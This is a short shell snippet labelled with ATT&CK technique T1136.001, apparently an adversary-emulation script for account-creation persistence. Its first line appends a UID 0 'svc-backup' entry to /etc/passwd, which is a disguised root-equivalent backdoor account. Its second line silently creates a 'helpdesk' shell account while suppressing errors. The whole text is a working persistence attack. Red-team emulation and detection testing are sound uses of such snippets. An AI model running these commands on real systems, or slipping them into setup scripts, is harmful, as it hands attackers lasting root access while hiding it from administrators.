# technique: T1136.001
# title: an account of their own
echo 'svc-backup:x:0:0::/root:/bin/sh' >> /etc/passwd
useradd --badname -M -s /bin/sh helpdesk 2>/dev/null || true
